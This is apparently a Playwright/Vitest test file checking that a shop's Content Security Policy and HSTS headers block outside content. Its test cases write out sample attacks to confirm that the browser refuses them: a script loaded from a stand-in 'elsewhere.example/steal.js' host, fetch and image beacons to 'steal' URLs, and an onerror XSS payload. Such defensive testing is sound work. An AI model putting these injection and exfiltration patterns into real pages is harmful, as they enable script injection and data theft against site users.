import type { Page } from "playwright-core";
import { expect, it } from "vitest";
import { openShop } from "./open-shop.js";

const { shop, withVisit } = await openShop();

// That no page of the shop wants what its policy refuses is seen by accessible.test.ts, which looks at every page.

/** Does something in the page, and answers which directive refused it, or `null` if nothing did within a moment. */
const refusalOf = (page: Page, act: () => unknown): Promise<string | null> =>
  page.evaluate(
    (source) =>
      new Promise<string | null>((resolve) => {
        document.addEventListener(
          "securitypolicyviolation",
          ({ effectiveDirective }) => resolve(effectiveDirective),
          { once: true },
        );
        const script = document.createElement("script");
        script.textContent = `(${source})()`;
        document.body.append(script);
        setTimeout(() => resolve(null), 1000);
      }),
    act.toString(),
  );

const elsewhere = "https://elsewhere.example";

it("a page's policy refuses scripts, requests, pictures, frames and forms of elsewhere, and scripts in attributes", () =>
  withVisit(
    async ({ page }) => {
      await page.goto("/login");
      const acts = {
        "script-src-elem": () => {
          const script = document.createElement("script");
          script.src = "https://elsewhere.example/steal.js";
          document.body.append(script);
        },
        "script-src-attr": () => {
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="/no-such.png" onerror="window.stolen = true">';
          document.body.append(holder);
        },
        "connect-src": () => fetch("https://elsewhere.example/steal").catch(() => {}),
        "img-src": () => {
          new Image().src = "https://elsewhere.example/steal.png";
        },
        "frame-src": () => {
          const frame = document.createElement("iframe");
          frame.src = "https://elsewhere.example/";
          document.body.append(frame);
        },
        "base-uri": () => {
          const base = document.createElement("base");
          base.href = "https://elsewhere.example/";
          document.head.append(base);
        },
        "form-action": () => {
          const form = document.createElement("form");
          form.action = "https://elsewhere.example/";
          document.body.append(form);
          form.submit();
        },
      };
      for (const [directive, act] of Object.entries(acts)) expect(await refusalOf(page, act)).toBe(directive);
      expect(await page.evaluate(() => "stolen" in window)).toBe(false);
    },
    { expectedFault: /Content Security Policy|no-such\.png|elsewhere\.example/ },
  ));

it("what the README says: a script inside the page runs, which is why nothing of elsewhere gets into a page uncleaned", () =>
  withVisit(async ({ page }) => {
    await page.goto("/login");
    const runs = () => {
      Object.assign(window, { ran: true });
    };
    expect(await refusalOf(page, runs)).toBeNull();
    expect(await page.evaluate(() => "ran" in window)).toBe(true);
  }));

it.each(["/", "/account", "/product/ember-espresso", "/no-such-page", "/login"])(
  "%s has the policy, and says that https is for good only behind https",
  async (path) => {
    const options = { redirect: "manual" } as const;
    const plain = (await fetch(shop.url + path, options)).headers;
    expect(plain.get("content-security-policy")).toMatch(/default-src 'self'; .*frame-ancestors 'none'/);
    expect(plain.get("content-security-policy")).not.toContain(elsewhere);
    expect(plain.get("strict-transport-security")).toBeNull();
    const hstsFor = async (forwarded: string) => {
      const headers = { "x-forwarded-proto": forwarded };
      return (await fetch(shop.url + path, { ...options, headers })).headers.get("strict-transport-security");
    };
    for (const forwarded of ["https", "https,http", "https , http"])
      expect([forwarded, await hstsFor(forwarded)]).toEqual([forwarded, "max-age=31536000"]);
    for (const forwarded of ["http", "http,https", "httpsx"])
      expect([forwarded, await hstsFor(forwarded)]).toEqual([forwarded, null]);
  },
);
